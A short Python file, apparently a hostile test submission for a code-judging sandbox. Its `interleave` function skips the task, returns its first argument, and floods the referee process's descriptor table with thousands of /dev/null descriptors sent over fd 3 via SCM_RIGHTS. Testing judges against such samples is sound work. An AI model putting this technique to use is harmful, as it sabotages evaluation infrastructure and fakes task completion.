"""Sends descriptors with its answers, hundreds at once, into the table of the referee."""

# seconds = 3

import array
import os
import socket


def interleave(a, b):
    channel = socket.socket(fileno=3)
    many = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(250)])
    try:
        for _ in range(50):
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
    finally:
        channel.detach()
    return a
